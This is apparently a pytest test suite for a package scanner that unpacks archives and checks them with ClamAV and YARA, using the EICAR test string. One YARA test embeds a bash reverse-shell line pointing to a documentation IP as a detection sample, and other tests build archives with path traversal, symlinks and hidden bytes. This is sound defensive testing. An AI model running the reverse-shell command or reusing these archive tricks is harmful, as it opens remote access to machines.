"""Members scanned as they are unpacked, and containers ClamAV need not read again."""

from __future__ import annotations

import gzip
import io
import os
import tarfile
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from scanner.model import NEST, Limits, Settings
from scanner.pipeline import scan_package
from scanner.unpack import Member, iter_unpack
from scanner.virus import scan_members

CORPUS = Path(__file__).resolve().parent.parent / "data" / "corpus"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAN" + b"DARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _tar(mode: str, files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as tar:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buffer.getvalue()


def _covered(tmp_path: Path, name: str, data: bytes) -> set[str]:
    package = tmp_path / name
    package.write_bytes(data)
    covered: set[str] = set()
    for _ in iter_unpack(package, tmp_path / "scratch", Limits(), name=name, covered=covered):
        pass
    return covered


FILES = {"a/one.txt": b"one\n" * 100, "a/two.txt": b"two\n" * 100}


@pytest.mark.parametrize("mode", ["w", "w:gz", "w:bz2", "w:xz"])
def test_a_tar_read_to_its_end_is_covered(tmp_path, mode):
    assert _covered(tmp_path, "p.tar", _tar(mode, FILES)) == {"p.tar"}


@pytest.mark.parametrize(
    "tail",
    [b"appended bytes", gzip.compress(b"a second gzip member")],
    ids=["appended", "second-member"],
)
def test_data_after_a_compressed_tar_is_not_covered(tmp_path, tail):
    assert _covered(tmp_path, "p.tar.gz", _tar("w:gz", FILES) + tail) == set()


def test_a_tar_with_a_refused_entry_is_not_covered(tmp_path):
    data = _tar("w", {**FILES, "../escape.txt": b"out\n"})
    assert _covered(tmp_path, "p.tar", data) == set()


def _zip_with(files: dict[str, bytes], *, comment: bytes = b"", stream: bool = False,
              compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as zf:
        for name, data in files.items():
            if stream:  # written through a stream: sizes in a data descriptor after the data
                with zf.open(name, "w") as dst:
                    dst.write(data)
            else:
                zf.writestr(name, data)
        zf.comment = comment
    return buffer.getvalue()


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
def test_a_zip_whose_every_byte_is_an_entry_or_a_header_is_covered(tmp_path, stream, compression):
    inner = _tar("w:gz", FILES)
    data = _zip_with({"in.tar.gz": inner, **FILES}, stream=stream, compression=compression)
    covered = _covered(tmp_path, "p.zip", data)
    assert covered == {"p.zip", f"p.zip{NEST}in.tar.gz"}


def _gap_between_entries(data: bytes) -> bytes:
    """Move the second entry 16 bytes on, leaving unnamed bytes before it."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        second = zf.infolist()[1].header_offset
    out = bytearray(data[:second] + b"HIDDEN-BYTES-16!" + data[second:])
    # every offset after the gap moves: the central directory's and its entries'
    end = out.rfind(b"PK\x05\x06")
    start = int.from_bytes(out[end + 16 : end + 20], "little") + 16
    out[end + 16 : end + 20] = start.to_bytes(4, "little")
    at = start
    while out[at : at + 4] == b"PK\x01\x02":
        offset = int.from_bytes(out[at + 42 : at + 46], "little")
        if offset >= second:
            out[at + 42 : at + 46] = (offset + 16).to_bytes(4, "little")
        names, extra, comment = (int.from_bytes(out[at + i : at + i + 2], "little") for i in (28, 30, 32))
        at += 46 + names + extra + comment
    return bytes(out)


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda d: b"#!/bin/sh\nstub before the archive\n" + d, id="stub-before"),
        pytest.param(lambda d: d + b"appended after the end record", id="data-after"),
        pytest.param(_gap_between_entries, id="gap-between-entries"),
    ],
)
def test_a_zip_with_bytes_no_entry_holds_is_not_covered(tmp_path, damage):
    data = damage(_zip_with(FILES))
    assert _covered(tmp_path, "p.zip", data) == set()


def test_a_zip_with_a_comment_is_not_covered(tmp_path):
    assert _covered(tmp_path, "p.zip", _zip_with(FILES, comment=b"anything at all")) == set()


def test_a_zip_with_a_link_entry_is_not_covered(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("a/one.txt", b"one\n")
        link = zipfile.ZipInfo("a/link")
        link.create_system = 3
        link.external_attr = (0o120777 << 16)
        zf.writestr(link, b"one.txt")  # its data (the target) is no member
    assert _covered(tmp_path, "p.zip", buffer.getvalue()) == set()


def test_scan_package_finds_eicar_in_a_covered_zip(tmp_path, clamd):
    package = tmp_path / "p.zip"
    package.write_bytes(_zip_with({"docs/readme.txt": b"hello\n", "bin/eicar.com": EICAR}))
    (tmp_path / "probe").mkdir()
    assert _covered(tmp_path / "probe", "p.zip", package.read_bytes()) == {"p.zip"}
    (tmp_path / "scratch").mkdir()
    settings = Settings(
        osv_paths=(CORPUS / "osv",), clamd=clamd.address, scratch_dir=tmp_path / "scratch"
    )
    result = scan_package(package, settings)
    viruses = {(f.location, f.signature) for f in result.findings if f.type == "virus"}
    assert (f"p.zip{NEST}bin/eicar.com", "Assay.Test.EICAR") in viruses


def test_a_stream_of_members_is_scanned_as_it_comes(tmp_path, clamd):
    paths = []
    for n in range(30):
        path = tmp_path / f"f{n}.txt"
        path.write_bytes(b"%d\n" % n)
        paths.append(path)
    eicar = tmp_path / "eicar.com"
    eicar.write_bytes(EICAR)
    paths.append(eicar)

    def stream():
        for path in paths:
            yield Member(path, f"p.tar{NEST}{path.name}", path.stat().st_size, 1, False)

    findings, _ = scan_members(stream(), Settings(clamd=clamd.address))
    assert {(f.location, f.signature) for f in findings if f.type == "virus"} == {
        (f"p.tar{NEST}eicar.com", "Assay.Test.EICAR")
    }


def test_a_covered_container_is_not_read_again_and_others_are(tmp_path, clamd):
    # A container holding EICAR whose member list lacks it: only a whole-file scan sees it.
    container = tmp_path / "c.tar"
    container.write_bytes(_tar("w", {"eicar.com": EICAR}))
    members = [Member(container, "c.tar", container.stat().st_size, 0, True)]
    settings = Settings(clamd=clamd.address)

    skipped, _ = scan_members(members, settings, covered={"c.tar"})
    scanned, _ = scan_members(members, settings)

    assert [f for f in skipped if f.type == "virus"] == []
    assert {f.signature for f in scanned if f.type == "virus"} >= {"Assay.Test.EICAR"}


def test_scan_package_finds_eicar_in_a_covered_tar_gz(tmp_path, clamd):
    from scanner.osv import OsvDatabase

    package = tmp_path / "app.tar.gz"
    package.write_bytes(_tar("w:gz", {**FILES, "deep/x.zip": _zip({"eicar.com": EICAR})}))
    settings = Settings(clamd=clamd.address, scratch_dir=tmp_path)
    progress = []
    result = scan_package(package, settings, lambda *a: progress.append(a),
                          osv=OsvDatabase.load([CORPUS / "osv"]))
    assert result.verdict == "rejected"
    assert [f.location for f in result.findings if f.type == "virus"] == [
        f"app.tar.gz{NEST}deep/x.zip{NEST}eicar.com"
    ]
    assert progress[-1][0] == "verdict"
    assert [p for p in tmp_path.iterdir() if p.name != "app.tar.gz"] == []


@pytest.mark.parametrize("where", ["start", "boundary", "last-window"])
def test_yara_matches_a_large_file_window_by_window(tmp_path, where):
    from scanner.engines import yara_rules

    sample = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
    offset = {
        "start": 0,
        "boundary": yara_rules.WINDOW - len(sample) // 2,  # straddles two windows
        "last-window": yara_rules.WHOLE_FILE + 3 * 1024**2,
    }[where]
    path = tmp_path / "large.bin"
    with open(path, "wb") as f:
        f.truncate(yara_rules.WHOLE_FILE + 5 * 1024**2)
        f.seek(offset)
        f.write(sample)
    rules = yara_rules.compile_rules([yara_rules.SIGNATURE_DIR / "assay.yar"])
    assert rules.match(path, sample[:8]) == ["YARA.Assay_ReverseShell_Bash"]


def test_a_local_clamd_reads_files_itself(tmp_path, clamd):
    from scanner.virus import reads_our_files

    assert reads_our_files(clamd.address, tmp_path)
    assert not reads_our_files("tcp://192.0.2.1:3310", tmp_path)  # another machine: stream
    assert list(tmp_path.iterdir()) == []  # the test file is gone


@pytest.mark.parametrize("name", ["plain.com", "odd: name OK.com", "sp ace\\x0a.com"])
def test_files_read_by_clamd_itself_are_judged_like_streamed_ones(tmp_path, clamd, name):
    from scanner.engines.clamd import Session

    eicar = tmp_path / name
    eicar.write_bytes(EICAR)
    clean = tmp_path / f"clean-{name}"
    clean.write_bytes(b"nothing here\n")
    with Session(clamd.address) as session:
        assert session.scan_path(eicar).kind == "virus"
        assert session.scan_path(clean).kind == "clean"
        missing = session.scan_path(tmp_path / "gone.txt")
        assert (missing.kind, missing.name) == ("unscanned", None)


def test_files_go_as_soon_as_they_are_scanned_and_cataloged(tmp_path, clamd, monkeypatch):
    import scanner.pipeline

    removed: list[str] = []
    unlink = scanner.pipeline.unlink_quietly

    def recording(path):
        removed.append(Path(path).name)
        unlink(path)

    monkeypatch.setattr(scanner.pipeline, "unlink_quietly", recording)
    metadata = b"Metadata-Version: 2.1\nName: requests\nVersion: 2.19.0\n\n"
    inner = _zip_with({"lib/one.txt": b"one\n" * 50, "lib/two.txt": b"two\n" * 50})
    files = {
        "app/site-packages/requests-2.19.0.dist-info/METADATA": metadata,
        "app/lib/bundle.zip": inner,
        "app/copy.txt": b"one\n" * 50,  # a copy of a file inside the zip
        **{f"app/src/f{n}.py": b"x = %d\n" % n * 40 for n in range(40)},
    }
    package = tmp_path / "p.tar.gz"
    package.write_bytes(_tar("w:gz", files))
    (tmp_path / "scratch").mkdir()
    settings = Settings(
        osv_paths=(CORPUS / "osv",), clamd=clamd.address, scratch_dir=tmp_path / "scratch",
        memory_dir=None,
    )
    result = scan_package(package, settings)
    # every regular file went during the scan but the metadata a cataloger reads at the end
    assert sorted(removed) == sorted(
        ["bundle.zip", "copy.txt", "one.txt", "two.txt", *(f"f{n}.py" for n in range(40))]
    )
    assert [(c.name, c.version) for c in result.components] == [("requests", "2.19.0")]
    assert [f for f in result.findings if f.type != "vulnerability"] == []
    assert list((tmp_path / "scratch").iterdir()) == []


def test_small_files_go_to_the_memory_dir_and_large_ones_to_scratch(tmp_path, clamd, monkeypatch):
    import scanner.pipeline
    from scanner.unpack import SMALL_FILE, _MemoryDir

    # where files go, whatever the free space of the file system tmp_path is on
    monkeypatch.setattr(_MemoryDir, "_has_room", lambda self: True)
    removed: list[Path] = []
    unlink = scanner.pipeline.unlink_quietly

    def recording(path):
        removed.append(Path(path))
        unlink(path)

    monkeypatch.setattr(scanner.pipeline, "unlink_quietly", recording)
    files = {
        "app/small.txt": b"small\n" * 10,
        "app/eicar.com": EICAR,
        "app/large.bin": os.urandom(SMALL_FILE + 1),
        "app/lib/bundle.zip": _zip_with({"docs/inner.txt": b"inner\n"}),
        "app/ota/system.transfer.list": b"4\n",  # OTA halves stay side by side on disk
    }
    package = tmp_path / "p.tar.gz"
    package.write_bytes(_tar("w:gz", files))
    for d in ("scratch", "memory"):
        (tmp_path / d).mkdir()
    settings = Settings(
        osv_paths=(CORPUS / "osv",), clamd=clamd.address, scratch_dir=tmp_path / "scratch",
        memory_dir=tmp_path / "memory",
    )

    result = scan_package(package, settings)

    memory = tmp_path / "memory"
    where = {
        p.name.split("-", 1)[-1] if p.is_relative_to(memory) else p.name:
        "memory" if p.is_relative_to(memory) else "scratch"
        for p in removed
    }
    assert where == {
        "small.txt": "memory", "eicar.com": "memory", "bundle.zip": "memory",
        "inner.txt": "memory", "large.bin": "scratch",
    }
    assert [f.location for f in result.findings if f.type == "virus"] == ["p.tar.gz!/app/eicar.com"]
    # both directories are left empty, and the result is the one of a scan on disk alone
    assert list((tmp_path / "scratch").iterdir()) == list((tmp_path / "memory").iterdir()) == []
    on_disk = scan_package(package, replace(settings, memory_dir=None))
    assert [f.id for f in result.findings] == [f.id for f in on_disk.findings]


def test_a_full_memory_dir_sends_files_to_disk(tmp_path, clamd, monkeypatch):
    from scanner.unpack import _MemoryDir

    monkeypatch.setattr(_MemoryDir, "_has_room", lambda self: False)
    package = tmp_path / "p.tar.gz"
    package.write_bytes(_tar("w:gz", {"app/eicar.com": EICAR, "app/a.txt": b"a\n"}))
    (tmp_path / "memory").mkdir()
    settings = Settings(osv_paths=(CORPUS / "osv",), clamd=clamd.address,
                        scratch_dir=tmp_path, memory_dir=tmp_path / "memory")

    result = scan_package(package, settings)

    assert [f.location for f in result.findings if f.type == "virus"] == ["p.tar.gz!/app/eicar.com"]


def test_a_missing_memory_dir_is_not_used(tmp_path, clamd):
    package = tmp_path / "p.tar.gz"
    package.write_bytes(_tar("w:gz", {"app/eicar.com": EICAR}))
    settings = Settings(osv_paths=(CORPUS / "osv",), clamd=clamd.address,
                        scratch_dir=tmp_path, memory_dir=tmp_path / "no-such-dir")

    result = scan_package(package, settings)

    assert [f.location for f in result.findings if f.type == "virus"] == ["p.tar.gz!/app/eicar.com"]
